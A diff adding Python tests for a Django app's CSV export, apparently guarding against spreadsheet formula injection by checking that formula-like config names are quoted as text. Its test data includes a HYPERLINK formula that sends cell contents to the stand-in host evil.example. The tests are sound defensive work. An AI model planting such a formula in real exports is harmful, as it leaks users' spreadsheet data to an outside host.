@@ -72,3 +72,24 @@ def test_it_exports_how_many_requests_were_attempted_succeeded_and_failed(alice_
     assert rows["other"]["requests_attempted"] is None  # a job that counts no request outcomes
     listed = alice_client.get(reverse("runs:list")).content.decode()
     assert "\u26a0 25 % failed</span>" in listed
+
+
+FORMULAS = ["=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(A1:A9)", "+1+1", "-2+3",
+            "\tTAB", "\rCR"]
+
+
+def test_it_writes_formula_like_config_names_as_text_in_the_csv(alice_client):
+    for name in FORMULAS:
+        speed_runs(EngineConfigFactory(name=name), 40.0)
+    response = alice_client.get(reverse("runs:list"), {"format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
+    assert sorted(r["config"] for r in rows) == sorted("'" + name for name in FORMULAS)
+    assert {r["decode_tps_client"] for r in rows} == {"40.0"}
+
+
+def test_it_keeps_negative_numbers_numeric_in_the_csv(alice_client):
+    config = EngineConfigFactory(name="-1.5")  # a name that is a number reads as that number, no formula
+    succeeded(config, "speed", speed_summary(-1.5))
+    response = alice_client.get(reverse("runs:list"), {"format": "csv"})
+    row = next(csv.DictReader(io.StringIO(response.content.decode())))
+    assert (row["config"], row["decode_tps_client"]) == ("-1.5", "-1.5")
